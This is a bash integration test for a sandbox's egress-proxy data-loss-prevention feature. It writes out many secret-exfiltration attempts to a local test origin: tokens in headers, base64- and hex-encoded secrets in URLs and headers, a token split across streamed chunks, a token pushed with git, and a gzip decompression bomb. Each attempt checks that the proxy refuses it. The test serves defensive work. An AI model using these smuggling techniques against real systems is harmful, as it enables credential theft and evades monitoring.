#!/usr/bin/env bash
# DLP at the egress proxy (docs/dlp.md), with real clients (curl, python,
# node, git) in a real sandbox over plain HTTP to local origins. An honest
# JSON API session, a git clone and an honest push pass with zero
# findings. Refused, each with x-canister-error: dlp-blocked, a reason that
# names the detector and where, a fingerprint in --events and never the
# value, and nothing of the value at the origin: a token in a header; a
# canary from the environment (raw, base64'd in a URL, in a gzip body);
# one of the user's real secrets (which the sandbox is not given, then
# smuggled in through a file) and a ~/.npmrc token; a token split across
# chunks; a token committed and pushed with git; a decompression bomb. A
# token goes to a host whose contract allows credentials only when that
# host is its home.
if [ -f "${CAN_SRCDIR}/test/lib.sh" ]; then . "${CAN_SRCDIR}/test/lib.sh"; else . "${CAN_SRCDIR}/lib.sh"; fi
. "$CAN_SRCDIR/test/proxy_lib.sh"
t_drop_to_user "$CAN_SRCDIR/test/proxy_lib.sh" "$CAN_SRCDIR/test/dlp_server.py" \
	"$CAN_SRCDIR/test/dlp_client.py" "$CAN_SRCDIR/test/dlp_git_server.py"

pl_workdir candlp
cp "$CAN_SRCDIR/test/dlp_client.py" client.py
pl_dlp_origin
pl_git_origin

pl_recipe dlp.toml loopback "enabled = true" "canary_tokens = true"
pl_recipe nodlp.toml loopback "enabled = false"
pl_recipe default.toml loopback
# A GitHub token with a valid checksum (the detector table's sample).
GHP=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 GHP2=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
EV=$TOP/events.jsonl
inside() { "$CAN" run --events "$EV" -r ./dlp.toml -- "$@"; }
at_origin() { grep -c -- "$1" "$DLP_LOG" 2>/dev/null || true; }

# --- honest work: zero false positives ---
t_run inside python3 client.py honest "http://$H"
t_grep "an honest JSON API session: every request answered 200" '^200 POST gzip events$' "$T_OUT"
t_nogrep "no request of it refused" '^(403|413|400)' "$T_OUT"
t_nogrep "and nothing said about DLP on stderr" 'dlp' "$T_ERR"
t_grep "all 16 requests reached the origin" '^16$' "$(grep -c -- '^----$' "$DLP_LOG")"
t_run inside curl -sS -m 20 "http://$H/v1/status"
t_grep "curl GET passes" '"ok": true' "$T_OUT"

# --- a token in a header ---
t_run inside curl -sS -m 20 -D - -H "Authorization: token $GHP" "http://$H/v1/leak-header"
pl_refused "a GitHub token in a header"
t_grep "the reason names the detector and the header" 'github-pat-classic in header authorization' "$T_OUT"
t_grep "and what to change if it is a false positive" 'allow_credentials = true' "$T_OUT"
t_grep "said on can's stderr too" 'refused GET host.canister.local.*dlp-blocked' "$T_ERR"
t_grep "the origin never saw it" '^0$' "$(at_origin leak-header)"
t_run "$CAN" run -r ./default.toml -- curl -sS -m 20 -D - -H "Authorization: token $GHP" "http://$H/v1/leak-default"
t_grep "with no [network.dlp] at all, DLP is on behind the proxy (403)" '^HTTP/1.1 403' "$T_OUT"
t_grep "... and the origin never saw it" '^0$' "$(at_origin leak-default)"
t_grep "with enabled = false the same request passes (the test can fail)" '"ok": true' \
	"$("$CAN" run -r ./nodlp.toml -- curl -sS -m 20 -H "Authorization: token $GHP2" "http://$H/v1/control")"

# --- canaries from the environment ---
t_run inside sh -c 'echo "$AWS_ACCESS_KEY_ID"'
t_grep "a canary AWS key is in the sandbox's environment" '^AKIA[A-Z2-7]{16}$' "$T_OUT"
t_run inside sh -c "curl -sS -m 20 -D - -d \"key=\$AWS_SECRET_ACCESS_KEY\" http://$H/v1/leak-canary"
t_grep "a canary in a body: 403 dlp-blocked" 'x-canister-error: dlp-blocked' "$T_OUT"
t_grep "named as a canary" 'canary \(canary AWS_SECRET_ACCESS_KEY\)' "$T_OUT"
t_grep "reported loudly on stderr" 'A CANARY TOKEN' "$T_ERR"
t_run inside sh -c "curl -sS -m 20 -D - \"http://$H/v1/leak-url?d=\$(printf %s \"\$AWS_ACCESS_KEY_ID\" | base64)\""
t_grep "a base64'd canary in the URL: refused" 'canary.* in url.* after base64' "$T_OUT"
t_run inside sh -c "printf '%s\n' \"\$AWS_ACCESS_KEY_ID\" \"\$AWS_SECRET_ACCESS_KEY\" \"\$GITHUB_TOKEN\" >canaries.txt; python3 client.py post http://$H /v1/leak-gzip \"{\\\"t\\\":\\\"\$GITHUB_TOKEN\\\"}\" gzip"
t_grep "python: a canary GitHub token in a gzip body: refused" '^403' "$T_OUT"
t_grep "found after gzip" 'after gzip' "$T_OUT"
# node: http.request to the proxy (node's own clients do not read HTTP_PROXY)
cat >node_leak.js <<'JS'
const http = require("http");
const proxy = new URL(process.env.HTTP_PROXY);
const body = JSON.stringify({ token: process.env.NPM_TOKEN });
const req = http.request({ host: proxy.hostname, port: proxy.port, method: "POST",
	path: "http://" + process.argv[2] + "/v1/leak-node",
	headers: { Host: process.argv[2], "Content-Type": "application/json",
		"Content-Length": Buffer.byteLength(body) } }, (res) => {
	let out = "";
	res.on("data", (d) => (out += d));
	res.on("end", () => console.log(res.statusCode, res.headers["x-canister-error"], out));
});
req.end(body);
JS
t_run inside node node_leak.js "$H"
t_grep "node: the canary NPM_TOKEN in a JSON body: 403 dlp-blocked" '^403 dlp-blocked .*canary NPM_TOKEN' "$T_OUT"
# A canary coming back: sent out reversed (not decoded, so it passes),
# echoed back by the origin, the response is cut before the client has it.
REVGH='$(python3 -c "import os; print(os.environ[\"GITHUB_TOKEN\"][::-1])")'
t_run inside sh -c "curl -sS -m 20 -D - \"http://$H/v1/echo-reversed?d=$REVGH\""
t_grep "a canary in a response (smuggled out reversed, echoed back): 502 dlp-blocked" \
	'^HTTP/1.1 502.*|x-canister-error: dlp-blocked' "$T_OUT"
t_grep "... named as a canary in the response" 'canary \(canary GITHUB_TOKEN\) in the response' "$T_OUT"
t_nogrep "... the client never got the value" 'ghp_' "$T_OUT"
t_grep "reported loudly on stderr" 'A CANARY TOKEN \(canary GITHUB_TOKEN\) came back in a response' "$T_ERR"
t_run inside sh -c "curl -sS -m 20 -o big.txt \"http://$H/v1/echo-reversed?pad=1000000&d=$REVGH\"; echo rc=\$?; grep -c filler big.txt; grep -c ghp_ big.txt"
t_grep "a canary after 1 MB of a response: the response is cut (curl fails)" '^rc=(18|56)$' "$T_OUT"
t_grep "... and the client has no canary" '^0$' "$(tail -1 <<<"$T_OUT")"
t_grep "an honest echo passes with the canaries planted" '^mlk_jihgfedcba$' \
	"$(inside curl -sS -m 20 "http://$H/v1/echo-reversed?d=abcdefghij_klm")"
# The proxy forwards a head that passed before the body arrives: the
# origin may see the request line, never the value.
t_grep "the canary GitHub token never reached the origin (even decompressed)" '^0$' \
	"$(at_origin "$(sed -n 3p canaries.txt)")"

# --- one of the user's real secrets ---
REAL=correct-horse-battery-staple-$RANDOM$RANDOM
export DEPLOY_PASSWORD=$REAL
t_run inside sh -c 'echo "[$DEPLOY_PASSWORD]"'
t_grep "the real secret is not in the sandbox's environment" '^\[\]$' "$T_OUT"
printf '%s' "$REAL" >smuggled.txt
t_run inside curl -sS -m 20 -D - --data-binary @smuggled.txt "http://$H/v1/leak-real"
t_grep "a real secret smuggled in by a file: refused" 'user-secret \(env DEPLOY_PASSWORD\)' "$T_OUT"
t_run inside sh -c "curl -sS -m 20 -D - -H \"X-Data: \$(od -An -tx1 smuggled.txt | tr -d ' \\n')\" http://$H/v1/leak-real-hex"
t_grep "the same in hex in a header: refused" 'user-secret.*after hex' "$T_OUT"
t_nogrep "the value is on no output of can" "$REAL" "$T_ERR"
unset DEPLOY_PASSWORD
t_grep "it never reached the origin" '^0$' "$(at_origin "$REAL")"
# A credential file of the user's: read at start, refused in any request.
NPMREAL=npm-registry-secret-$RANDOM$RANDOM
[ -e "$HOME/.npmrc" ] && cp "$HOME/.npmrc" "$TOP/npmrc.saved"
printf '//registry.npmjs.org/:_authToken=%s\n' "$NPMREAL" >"$HOME/.npmrc"
printf '{"note":"%s"}' "$(printf %s "$NPMREAL" | base64)" >smuggled.json
t_run inside curl -sS -m 20 -D - -H 'Content-Type: application/json' --data-binary @smuggled.json "http://$H/v1/leak-npmrc"
t_grep "the ~/.npmrc token, base64'd in JSON: refused" 'user-secret \(~/.npmrc\) in body.* after base64' "$T_OUT"
rm -f "$HOME/.npmrc"
[ -e "$TOP/npmrc.saved" ] && cp "$TOP/npmrc.saved" "$HOME/.npmrc"
t_grep "it never reached the origin" '^0$' "$(at_origin "$NPMREAL")"

# --- a token split across chunks of a streamed upload ---
t_run inside sh -c "(printf 'first part ghp_C3J27XDCG2'; sleep 0.5; printf 'LmlZGEONYlgCtjfIZ4SO2Hjn6r rest') | curl -sS -m 20 -D - -H 'Transfer-Encoding: chunked' -T - http://$H/v1/leak-chunked"
# After "100 Continue" the refusal can only cut the connection: said on stderr.
t_grep "a token split across two chunks: refused" 'refused PUT .*github-pat-classic in body' "$T_ERR"
t_grep "the whole token never reached the origin" '^0$' "$(at_origin "$GHP")"

# --- git: an honest clone and push pass; a pushed token is refused ---
GITC="-c user.name=t -c user.email=t@t"
t_run inside sh -c "git clone -q http://$G/repo.git work && cd work && echo honest >a.txt && git add a.txt && git $GITC commit -qm honest && git push -q origin HEAD && echo pushed-honest"
t_grep "git clone and an honest git push through the proxy pass" '^pushed-honest$' "$T_OUT"
t_run inside sh -c "cd work && echo 'token $GHP' >leak.txt && git add leak.txt && git $GITC commit -qm leak && git push -q origin HEAD"
t_grep "git push of a committed token: refused (inside the pack's zlib streams)" \
	'refused POST .*github-pat-classic in body.* after deflate' "$T_ERR"
t_grep "the origin repository has the honest commit, not the leak" '^honest$' \
	"$(git -C "$GIT_REPO" log -1 --format=%s main)"

# --- bodies that are not what they claim ---
python3 -c "import gzip,sys; sys.stdout.buffer.write(gzip.compress(b'\0' * (200 << 20)))" >bomb.gz
t_run inside curl -sS -m 30 -D - -H 'Content-Encoding: gzip' --data-binary @bomb.gz "http://$H/v1/bomb"
t_grep "a gzip bomb (200 MiB of zeros): refused" 'undecodable.*bomb' "$T_OUT"
t_run inside curl -sS -m 20 -D - -H 'Content-Encoding: gzip' -d 'plain text' "http://$H/v1/notgzip"
t_grep "a body that is not gzip as it claims: refused" 'not valid for its Content-Encoding' "$T_OUT"

# --- scopes: allow_credentials ---
cat >cred.toml <<'T'
[[host]]
domain = "host.canister.local"
allow_credentials = true
T
JWT=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c
t_run "$CAN" run -r ./dlp.toml -- curl -sS -m 20 -H "Authorization: Bearer $JWT" "http://$H/v1/jwt"
t_grep "a JWT to a host without allow_credentials: refused" 'jwt' "$T_OUT"
t_run "$CAN" run -r ./dlp.toml -r ./cred.toml -- curl -sS -m 20 -H "Authorization: Bearer $JWT" "http://$H/v1/jwt"
t_grep "with allow_credentials = true the JWT (no home) passes" '"ok": true' "$T_OUT"
t_run "$CAN" run -r ./dlp.toml -r ./cred.toml -- curl -sS -m 20 -H "Authorization: token $GHP" "http://$H/v1/gh"
t_grep "a GitHub token is still refused there: it is not GitHub" 'github-pat-classic' "$T_OUT"

# --- events: fingerprints, never values ---
t_grep "--events records the refusal with a fingerprint" 'fp:[0-9a-f]{16}' "$(cat "$EV" 2>/dev/null)"
t_nogrep "--events holds no token" "$GHP" "$(cat "$EV" 2>/dev/null)"
t_nogrep "--events holds no real secret" "$REAL" "$(cat "$EV" 2>/dev/null)"
t_done
